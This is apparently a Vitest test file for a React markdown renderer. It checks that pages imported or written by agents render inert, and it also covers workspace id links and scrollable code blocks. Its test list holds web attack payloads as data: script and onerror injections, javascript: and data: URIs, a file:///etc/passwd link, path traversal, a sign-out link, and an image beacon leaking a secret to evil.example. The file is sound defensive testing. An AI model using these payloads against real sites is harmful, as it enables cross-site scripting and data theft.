import { render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import PageMarkdown from './page-markdown'

const ID = '01234567-89ab-cdef-0123-456789abcdef'

// Pages are imported from anywhere, and agents write them. None of it may become more than text, a plain link or a file of the workspace.
test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[x](javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  `[x](file:../../${ID})`,
  `[x](page:../${ID})`,
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](/api/auth/sign-out)',
  '[x](//evil.example)',
])('%s is inert', (text) => {
  const { container } = render(<PageMarkdown text={text} />)
  expect(container.querySelectorAll('script, iframe, img, svg, object, embed, style, link, form')).toHaveLength(0)
  for (const element of container.querySelectorAll('*')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
    const href = element.getAttribute('href')
    if (href === null) continue
    expect(href).toMatch(/^(https?:|mailto:)/)
    expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  }
})

test('pages and files of the workspace are known by their ids', () => {
  render(<PageMarkdown text={`[Travel](page:${ID}) [Map](file:${ID}) ![Plan](file:${ID})`} />)
  expect(screen.getByRole('link', { name: 'Travel' }).getAttribute('href')).toBe(`/knowledge/${ID}`)
  expect(screen.getByRole('link', { name: 'Map' }).getAttribute('href')).toBe(`/api/knowledge/files/${ID}`)
  expect(screen.getByRole('img', { name: 'Plan' }).getAttribute('src')).toBe(`/api/knowledge/files/${ID}`)
})

test('wide code scrolls by itself, by keys too', () => {
  const { container } = render(<PageMarkdown text={'```\na long line\n```'} />)
  const code = container.querySelector('pre')
  expect(code?.tabIndex).toBe(0)
  expect(code?.className).toContain('overflow-x-auto')
  expect(code?.getAttribute('aria-label')).toBe('Code: text')
})
